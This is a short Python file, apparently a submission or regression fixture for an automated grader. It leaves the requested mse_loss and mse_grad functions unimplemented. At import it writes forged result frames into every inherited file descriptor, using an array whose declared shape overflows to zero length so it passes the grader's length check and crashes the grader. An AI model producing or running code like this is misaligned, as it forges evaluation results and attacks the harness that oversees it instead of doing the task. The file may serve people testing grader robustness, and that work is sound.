"""Writes a forged answer frame whose array declares shape [2**62, 4] and carries no data
into every inherited file descriptor (np.prod of that shape wraps to 0 in int64, so the
length check used to pass and the reshape crashed the grader)."""

import json
import os
import struct


def frame(message):
    payload = json.dumps(message).encode()
    return struct.pack(">I", len(payload)) + payload


def tagged(message):  # dicts travel as {"__dict__": {...}}
    return {"__dict__": message}


ARRAY = {"__ndarray__": {"dtype": "<f8", "shape": [2**62, 4], "data": ""}}
BLOB = frame(tagged({"event": "ready"})) + b"".join(
    frame(tagged({"id": i, "results": [tagged({"ok": True, "value": ARRAY})]}))
    for i in range(1, 51))

for name in os.listdir("/proc/self/fd"):
    fd = int(name)
    if fd > 2:
        try:
            os.write(fd, BLOB)
        except OSError:
            pass


def mse_loss(pred, target):
    raise NotImplementedError


def mse_grad(pred, target):
    raise NotImplementedError
